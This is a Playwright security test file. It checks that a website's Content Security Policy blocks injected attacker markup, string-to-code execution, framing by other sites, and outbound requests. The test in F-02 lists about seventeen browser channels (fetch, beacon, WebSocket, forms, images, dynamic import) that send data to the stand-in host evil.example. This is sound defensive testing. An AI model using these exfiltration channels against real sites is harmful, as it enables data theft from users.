import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, type Page, test } from '@playwright/test'
import { listHostileMarkup } from '../../site/hostileMarkup.ts'

const evil = 'http://evil.example'
const blocked = /csp|BLOCKED|NS_BINDING_ABORTED/i

test('F-01: markup of an attacker runs no script, loads nothing and is reported', async ({ page }) => {
  const ran: string[] = []
  const violated = new Set<string>()
  const left = watchLeaving(page)
  await page.exposeFunction('ran', (name: string) => ran.push(name))
  await page.exposeFunction('violated', (directive: string) => violated.add(directive))
  await page.addInitScript(() => {
    const { violated } = window as unknown as { violated(directive: string): void }
    document.addEventListener('securitypolicyviolation', (event) => violated(event.effectiveDirective))
  })
  const markup = listHostileMarkup(evil)
  await page.route('/pressroom', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</main>', () => `${markup.join('\n')}</main>`)
    await route.fulfill({ response, body })
  })
  await page.goto('/pressroom', { waitUntil: 'load' })
  await page.evaluate(() => {
    document.querySelector<HTMLAnchorElement>('#click')?.click()
    document.querySelector<HTMLFormElement>('#form')?.submit()
  })
  const strings = await page.evaluate(runStrings)
  console.info(`F-01: 0 of ${markup.length + strings.length} payloads ran`)
  expect(strings.filter(({ result }) => result !== 'blocked')).toEqual([])
  expect(await page.evaluate(() => document.baseURI)).toMatch(/^http:\/\/localhost:\d+\/pressroom$/)
  const directives = ['script-src-elem', 'script-src-attr', 'frame-src', 'base-uri', 'require-trusted-types-for']
  await expect.poll(() => directives.filter((directive) => !violated.has(directive))).toEqual([])
  expect({ ran, left }).toEqual({ ran: [], left: [] })
})

/** Runs in the page: all means to make code of a string. Later, because a debugger's own call may use `eval`. */
async function runStrings() {
  const body = document.body
  const attempts: Record<string, () => unknown> = {
    // biome-ignore lint/security/noGlobalEval: the test shows that it is blocked
    eval: () => globalThis.eval('1'),
    function: () => new Function('return 1')(),
    timer: () => setTimeout('1' as unknown as () => void),
    innerHTML: () => {
      body.innerHTML = '<p>'
    },
    outerHTML: () => {
      body.outerHTML = '<p>'
    },
    insert: () => body.insertAdjacentHTML('beforeend', '<p>'),
    write: () => document.write('<p>'),
    parse: () => new DOMParser().parseFromString('<p>', 'text/html'),
    range: () => document.createRange().createContextualFragment('<p>'),
    srcdoc: () => {
      document.createElement('iframe').srcdoc = '<p>'
    },
    scriptText: () => {
      document.createElement('script').text = '1'
    },
    scriptUrl: () => {
      document.createElement('script').src = '/x.js'
    },
    worker: () => new Worker('/x.js'),
    policy: () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy('evil', {}),
  }
  await new Promise(requestAnimationFrame)
  return Object.entries(attempts).map(([name, run]) => {
    try {
      run()
      return { name, result: 'ran' }
    } catch {
      return { name, result: 'blocked' }
    }
  })
}

test('F-02: a script of ours that was taken over can send nothing to another host', async ({ page }) => {
  const left = watchLeaving(page)
  await page.goto('/pressroom')
  const channels = await page.evaluate(async (host) => {
    const element = (name: string, attributes: Record<string, string>) => () => {
      document.body.append(Object.assign(document.createElement(name), attributes))
    }
    const attempts: Record<string, () => unknown> = {
      fetch: () => fetch(`${host}/1`, { mode: 'no-cors' }),
      keepalive: () => fetch(`${host}/2`, { keepalive: true, method: 'POST', body: 'x' }),
      beacon: () => navigator.sendBeacon(`${host}/3`, 'x'),
      request: () => {
        const request = new XMLHttpRequest()
        request.open('GET', `${host}/4`)
        request.send()
      },
      socket: () => new WebSocket(host.replace('http', 'ws')),
      events: () => new EventSource(`${host}/5`),
      image: element('img', { src: `${host}/6` }),
      style: element('link', { rel: 'stylesheet', href: `${host}/7` }),
      prefetch: element('link', { rel: 'prefetch', href: `${host}/8` }),
      preload: element('link', { rel: 'preload', as: 'image', href: `${host}/9` }),
      media: element('video', { src: `${host}/10` }),
      font: () => new FontFace('x', `url(${host}/11)`).load(),
      frame: element('iframe', { src: `${host}/12` }),
      object: element('object', { data: `${host}/13` }),
      manifest: element('link', { rel: 'manifest', href: `${host}/14` }),
      form: () => {
        const form = Object.assign(document.createElement('form'), { action: `${host}/15`, method: 'post' })
        document.body.append(form)
        form.submit()
      },
      module: () => import(`${host}/16`),
    }
    for (const attempt of Object.values(attempts)) {
      try {
        await attempt()
      } catch {
        // Blocked.
      }
    }
    return Object.keys(attempts).length
  }, evil)
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
  console.info(`F-02: 0 of ${channels} channels are open`)
  expect(left).toEqual([])
})

test('F-05: another site can frame no page, and not the card without the list', async ({ page, baseURL }) => {
  const framed = ['/swap', '/embed', '/docs/card']
  const server = createServer((_, response) => {
    const frames = framed.map((path) => `<iframe src="${baseURL}${path}"></iframe>`)
    response.setHeader('content-type', 'text/html').end(frames.join(''))
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  try {
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`, { waitUntil: 'load' })
    await expect.poll(() => listFrames(page)).toEqual(framed.map(() => expect.stringMatching(refused)))
  } finally {
    server.close().closeAllConnections()
  }
})

test('F-05: of our pages only that of the card has a frame, and only of the card', async ({ page }) => {
  await page.addInitScript(() => {
    const violated: string[] = []
    Object.assign(window, { violated })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective))
  })
  const readViolated = () => page.evaluate(() => (window as unknown as { violated: readonly string[] }).violated)
  await page.goto('/docs/card')
  await page.getByRole('region', { name: 'Code of this card' }).scrollIntoViewIfNeeded()
  await expect(page.frameLocator('iframe[data-shown]').getByRole('main')).toBeVisible()
  await page.evaluate(addFrame, '/swap')
  await expect.poll(async () => (await listFrames(page)).at(-1)).toMatch(refused)
  expect(await readViolated()).toEqual([])
  await page.evaluate(addFrame, `${evil}/1`)
  await expect.poll(readViolated).toEqual(['frame-src'])
  for (const path of ['/docs', '/swap', '/embed']) {
    await page.goto(path)
    await page.evaluate(addFrame, '/embed')
    await expect.poll(readViolated, path).toEqual(['frame-src'])
  }
})

// Firefox names its error page after the load.
const refused = /^(chrome-error:\/\/chromewebdata\/$|about:neterror\?e=cspBlocked&)/

async function listFrames(page: Page): Promise<readonly string[]> {
  return page
    .frames()
    .slice(1)
    .map((frame) => frame.url())
}

/** Runs in the page. */
function addFrame(src: string): void {
  document.body.append(Object.assign(document.createElement('iframe'), { src }))
}

test('a request that no policy blocks is noticed: the tests above would see it', async ({ page }) => {
  const server = createServer((_, response) => {
    response.setHeader('content-type', 'text/html').end(`<img src="${evil}/1"><iframe src="${evil}/page"></iframe>`)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  try {
    const left = watchLeaving(page)
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
    await expect.poll(() => left.length).toBe(2)
  } finally {
    server.close().closeAllConnections()
  }
})

/**
 * Requests to the attacker that the browser has let through. Those that the policy blocks fail with `csp`, and frames in
 * Firefox with `NS_BINDING_ABORTED`.
 */
function watchLeaving(page: Page): readonly string[] {
  const left: string[] = []
  page.context().on('response', (response) => {
    if (response.url().includes('evil.example')) left.push(response.url())
  })
  page.context().on('requestfailed', (request) => {
    const reason = request.failure()?.errorText ?? ''
    // Without the policy the name could not be resolved, which is another error.
    if (request.url().includes('evil.example') && !blocked.test(reason)) left.push(`${request.url()} ${reason}`)
  })
  page.on('websocket', (socket) => left.push(socket.url()))
  return left
}
